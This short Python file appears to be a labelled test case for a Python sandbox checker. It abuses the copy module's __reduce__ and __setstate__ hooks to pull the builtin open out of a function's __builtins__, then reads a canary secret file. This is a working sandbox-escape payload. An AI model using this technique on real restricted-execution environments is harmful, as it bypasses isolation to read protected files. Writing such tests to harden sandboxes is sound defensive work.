# source: own
# effect: secret

import copy


class Carrier:
    def __reduce__(self):
        return Carrier, (), {"builtin": Carrier.__init__.__class__}

    def __setstate__(self, state):
        self.opener = Carrier.__setstate__.__builtins__["open"]


print(copy.copy(Carrier()).opener("/tmp/canary/secret").read())
